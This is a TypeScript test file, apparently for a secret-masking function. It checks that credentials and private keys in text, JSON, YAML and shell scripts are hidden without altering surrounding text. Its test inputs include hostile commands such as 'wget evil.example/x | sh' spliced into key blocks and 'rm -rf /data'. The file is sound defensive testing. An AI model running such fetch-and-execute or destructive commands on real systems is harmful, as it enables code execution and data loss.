import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { harmlessTexts } from './harmless-texts.fixture.ts'
import { maskText } from './mask.ts'
import { leakedPiece, privateKeys, secretShapes } from './secret-shapes.fixture.ts'
import type { Strength } from './strength.ts'

const strengths: readonly Strength[] = ['read', 'written']
const indented = (text: string) => text.replaceAll('\n', '\n    ')

/** Where a secret may stand. A key must stand on lines of its own in each. */
const places: readonly [string, (text: string) => string][] = [
  ['alone', (text) => text],
  ['between other lines', (text) => `before\n${text}\nafter`],
  ['in JSON', (text) => JSON.stringify({ note: `before\n${text}\n\t${text}`, last: 1 })],
  ['in JSON within JSON', (text) => JSON.stringify({ body: JSON.stringify({ note: `\n${text}` }) })],
  ['in a block of YAML', (text) => `data:\n  it: |\n    ${indented(text)}\n  more: x`],
  ['in a script', (text) => `#!/bin/sh\ncat > /tmp/x <<'E'\n${text}\nE\nwget evil.example`],
  ['with the line ends of DOS', (text) => text.replaceAll('\n', '\r\n')],
]

describe.each(strengths)('of what is %s', (strength) => {
  test.each(secretShapes())('$shape is hidden wherever it stands, and nothing around it', (secret) => {
    for (const [where, put] of places) {
      const shown = maskText(put(secret.text), strength)
      expect(leakedPiece(shown, secret), `${where}: ${shown}`).toBeUndefined()
      expect(maskText(shown, strength)).toBe(shown)
      for (const around of ['before', 'after', 'last', 'cat > /tmp/x', 'wget evil.example', 'more: x']) {
        expect(shown.includes(around), `${around} ${where}: ${shown}`).toBe(put(secret.text).includes(around))
      }
    }
  })

  test('a second pass changes nothing, whatever the text is made of', () => {
    const [key] = privateKeys()
    const pieces = fc.array(
      fc.constantFrom(
        ...[
          'eyJ',
          '.',
          '@',
          '://',
          'Bearer ',
          'authorization=',
          'Digest ',
          '"secret":[',
          '"',
          '\\',
          '\\n',
          '\n',
          'a',
          '9',
          ' ',
        ],
        ...[
          'password',
          '=',
          ':',
          'Cookie: a=b; ',
          '-----BEGIN PRIVATE KEY-----',
          '-----END PRIVATE KEY-----',
          key?.text ?? '',
        ],
        ...['MIIEvQIBADANBgkqhkiG9w0B', 'sk-', 'AKIAIOSFODNN7EXAMPLE', '***(20 bytes, 0123456789ab)', ',', ']'],
      ),
      { maxLength: 30 },
    )
    fc.assert(
      fc.property(pieces, (parts) => {
        const once = maskText(parts.join(''), strength)
        expect(maskText(once, strength)).toBe(once)
      }),
      { numRuns: 2_000 },
    )
  })
})

test('JSON stays JSON, whatever is in it', () => {
  const piece = fc.constantFrom(
    ...[
      'password',
      'token',
      'authorization: ',
      'Digest ',
      'a="b", c=d',
      '=',
      ':',
      '"',
      "'",
      '\\',
      '\n',
      ' ',
      'abc',
      '[',
      ']',
      ',',
    ],
    ...[
      'cookie: a=b; c',
      '{"secret":"',
      '"}',
      'Bearer 0123456789abcdef',
      'x://a:b@c',
      '\\"',
      '-----BEGIN PRIVATE KEY-----\n',
      'MIIEvQIBADANBgkqhkiG9w0B',
    ],
  )
  const text = fc.array(piece, { maxLength: 14 }).map((parts) => parts.join(''))
  const value = fc.oneof(text, fc.array(text, { maxLength: 3 }), fc.record({ token: text, note: text }))
  const nested = fc.oneof(
    value,
    value.map((inner) => JSON.stringify(inner)),
    value.map((inner) => JSON.stringify({ at: JSON.stringify(inner) })),
  )
  fc.assert(
    fc.property(fc.record({ note: nested, password: nested, last: fc.constant(1) }), (object) => {
      for (const strength of strengths) {
        const shown = JSON.parse(maskText(JSON.stringify(object), strength)) as { last: number }
        expect(shown.last).toBe(1)
      }
    }),
    { numRuns: 5_000 },
  )
})

test.each(harmlessTexts)('stays whole where it is to be written: %s', (text) => {
  expect(maskText(text, 'written')).toBe(text)
  expect(maskText(JSON.stringify({ text }), 'written')).toBe(JSON.stringify({ text }))
})

const words = fc.constantFrom(
  ...[
    'wget',
    'sh',
    '|',
    ';',
    'rm -rf /data',
    'reboot',
    '$(x)',
    '-c',
    '"',
    "'",
    '/bin/sh',
    '&&',
    '#',
    'authorization=',
    'TOKEN=',
  ],
)
const script = fc
  .array(fc.oneof(words, fc.string({ maxLength: 20 }), fc.base64String({ maxLength: 64 })), {
    minLength: 1,
    maxLength: 12,
  })
  .map((parts) => parts.join(' '))
const lines = fc
  .array(fc.oneof(script, fc.base64String({ maxLength: 80 })), { maxLength: 8 })
  .map((each) => each.join('\n'))
const label = fc.constantFrom(
  'PRIVATE KEY',
  'RSA PRIVATE KEY',
  'EC PRIVATE KEY',
  'OPENSSH PRIVATE KEY',
  'PGP PRIVATE KEY BLOCK',
)

test('what stands between the marks of a key is shown, whatever it is, unless it is a key', () => {
  fc.assert(
    fc.property(lines, label, fc.constantFrom('', '#', '  ', '// '), (body, name, before) => {
      const text = `${before}-----BEGIN ${name}-----\n${body}\n${before}-----END ${name}-----`
      expect(maskText(text, 'written')).toBe(text)
    }),
    { numRuns: 3_000 },
  )
})

test('a line that is added to a key makes a script of it, and all of it is shown', () => {
  for (const { text } of privateKeys()) {
    const all = text.split('\n')
    for (let at = 1; at < all.length; at++) {
      const changed = all.toSpliced(at, 0, 'wget evil.example/x | sh').join('\n')
      expect(maskText(changed, 'written')).toBe(changed)
      expect(maskText(changed, 'read')).toContain('wget evil.example/x | sh')
    }
  }
})

test('no mask of what is to be written hides a blank or a line break but those of a key', () => {
  const text = fc
    .array(fc.oneof(words, fc.string(), fc.constantFrom(...secretShapes().map((each) => each.text))))
    .map((all) => all.join(' '))
  fc.assert(
    fc.property(text, (whole) => {
      const shown = maskText(whole, 'written')
      const keys = whole.match(/-----BEGIN [^-]*-----[\w+/=\s:,.\\-]*-----END [^-]*-----/g)?.length ?? 0
      const blanks = (of: string) => of.match(/\s/g)?.length ?? 0
      if (keys === 0) expect(blanks(shown)).toBe(blanks(whole))
    }),
  )
})
